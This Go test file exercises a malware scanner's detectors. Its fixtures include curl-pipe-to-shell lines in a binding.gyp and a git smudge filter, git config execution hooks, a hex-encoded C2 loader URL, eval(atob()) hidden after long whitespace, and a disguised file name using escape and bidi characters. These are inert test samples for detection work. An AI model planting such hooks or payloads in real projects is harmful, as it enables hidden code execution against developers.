package scan

import (
	"encoding/hex"
	"strings"
	"testing"
)

// detectAll runs every Go detector that applies to f.
func detectAll(f *File) []Finding {
	var out []Finding
	for _, d := range Detectors(DetectOptions{}) {
		if d.Applies(f.Path) {
			out = append(out, d.Detect(f)...)
		}
	}
	return out
}

func TestDetectorsReviewFindings(t *testing.T) {
	t.Parallel()
	c2 := hex.EncodeToString([]byte("http://45.61.136.10/api/v1/loader/payload?id=12345678"))
	tests := []struct {
		name, path, body string
		rule             string
		sev              Severity // "" : the rule must not be found at high or above
	}{
		{"npm alias to a malicious package", "package.json", `{"dependencies":{"react-dom":"npm:react-plaid-sdk@1.0.0"}}`, "KNOWN-MALICIOUS-DEPENDENCY", SeverityCritical},
		{"tab padding", "routes/auth.js", "const r = require('express').Router();" + strings.Repeat("\t", 60) + "eval(atob(k));\n", "HIDDEN-AFTER-WHITESPACE", SeverityHigh},
		{"NBSP padding", "routes/auth.js", "const r = 1;" + strings.Repeat("\u00a0", 200) + "eval(atob(k));\n", "HIDDEN-AFTER-WHITESPACE", SeverityHigh},
		{"decoded C2 URL in a production bundle", "src/app.production.js", `const u="` + c2 + `";`, "ENCODED-BLOB", SeverityHigh},
		{"decoded C2 URL under build/", "src/build/app.js", `const u="` + c2 + `";`, "ENCODED-BLOB", SeverityHigh},
		{"binding.gyp command", "binding.gyp", "{'targets':[{'target_name':'x','sources':['<!(curl -s http://x.example/a|sh)']}]}", "GYP-COMMAND-EXPANSION", SeverityHigh},
		{"git fsmonitor", "proj/.git/config", "[core]\n\tfsmonitor = \"node .git/fsm.js\"\n", "GIT-CONFIG-EXEC", SeverityCritical},
		{"git smudge filter", ".git/config", "[filter \"lfs\"]\n\tsmudge = sh -c 'curl x|sh'\n", "GIT-CONFIG-EXEC", SeverityHigh},
		{"git hooksPath, case variant", ".git/Config", "[core]\nhooksPath = tools/hooks\n", "GIT-CONFIG-EXEC", SeverityHigh},
		{"git sshCommand", "a.zip!/.git/config", "[core]\n sshCommand = ssh -o ProxyCommand='sh x'\n", "GIT-CONFIG-EXEC", SeverityHigh},
		{"stock git config", ".git/config", "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = true\n[filter \"lfs\"]\n\tsmudge = git-lfs smudge -- %f\n", "GIT-CONFIG-EXEC", ""},
		{"translation isolates", "locales/ar.json", `{"hello":"مرحبا ` + "\u2068{name}\u2069" + `"}`, "UNICODE-BIDI", ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			fs := detectAll(&File{Path: tc.path, Data: []byte(tc.body), Size: int64(len(tc.body))})
			var got []string
			for _, x := range fs {
				got = append(got, x.Rule+"/"+string(x.Severity))
				if x.Rule != tc.rule {
					continue
				}
				if tc.sev == "" && sevRank(x.Severity) >= sevRank(SeverityHigh) {
					t.Fatalf("%s must not be high or critical: %+v", tc.rule, x)
				}
				if tc.sev != "" && x.Severity == tc.sev {
					return
				}
			}
			if tc.sev != "" {
				t.Fatalf("want %s %s, got %v", tc.rule, tc.sev, got)
			}
		})
	}
	if !isConfigFile("hardhat.config.js") || !isConfigFile("truffle-config.js") {
		t.Error("hardhat and truffle configs are config files")
	}
}

func TestDetectorFindingsSanitizedAndPlaced(t *testing.T) {
	t.Parallel()
	body := "const r = 1;" + strings.Repeat(" ", 200) + "eval(atob(k));\n"
	f := &File{Path: "src/\x1b[2K\rREADME\u202egnp.js", Data: []byte(body), Line: 1001, Offset: 1 << 22, Truncated: true}
	fs := detectAll(f)
	if len(fs) == 0 {
		t.Fatal("no finding")
	}
	for _, x := range fs {
		if x.File != `src/\x1b[2K\x0dREADME\u202egnp.js` {
			t.Errorf("File %q not sanitised", x.File)
		}
		if x.Line != 1001 {
			t.Errorf("%s at line %d, want 1001 (the window starts there)", x.Rule, x.Line)
		}
		if x.Rule == "HIDDEN-AFTER-WHITESPACE" && !strings.Contains(x.Snippet, "eval(atob(k))") {
			t.Errorf("the padding snippet must show the hidden code: %q", x.Snippet)
		}
	}
}
